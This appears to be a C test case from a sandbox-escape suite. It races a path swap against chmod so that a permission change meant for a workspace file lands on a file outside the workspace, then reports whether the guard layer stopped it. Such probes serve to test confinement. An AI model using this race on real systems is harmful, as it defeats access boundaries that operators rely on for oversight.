// escape: swap the path between the check and the call: a file of the workspace first, then one outside
// layer: guard
// outside: works
#include "payload.h"

static char shared[PATH_MAX], *mine, *theirs;
static volatile int stop;

static void *swap(void *none) {
    while (!stop) {
        strcpy(shared, theirs);
        __asm__ volatile("" ::: "memory"); // or the compiler drops the first copy
        strcpy(shared, mine);
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}

static void attempt(void) {
    pthread_t thread;
    theirs = in("out", "victim.txt");
    own_file("mine", 0644);
    mine = join("ws", "mine");
    strcpy(shared, mine);
    if (pthread_create(&thread, NULL, swap, NULL)) skip("no thread");
    mode_t before = stat_of(theirs).st_mode;
    for (double end = seconds() + 0.5; seconds() < end;) {
        chmod(shared, 0600);
        if (stat_of(theirs).st_mode != before) worked("won the race for the path");
    }
    stop = 1;
    no_effect("racing chmod");
}
